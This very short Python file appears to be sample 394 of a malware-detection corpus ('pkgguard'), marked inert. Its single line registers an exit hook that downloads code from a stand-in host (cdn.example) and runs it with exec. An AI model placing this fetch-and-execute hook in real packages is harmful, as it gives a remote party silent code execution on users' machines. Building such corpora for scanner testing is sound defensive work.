# pkgguard corpus 394 (import-time), modelled on [empirical]; inert, never run.
import atexit
import urllib.request

atexit.register(lambda: exec(urllib.request.urlopen("https://cdn.example/x.py", timeout=5).read()))
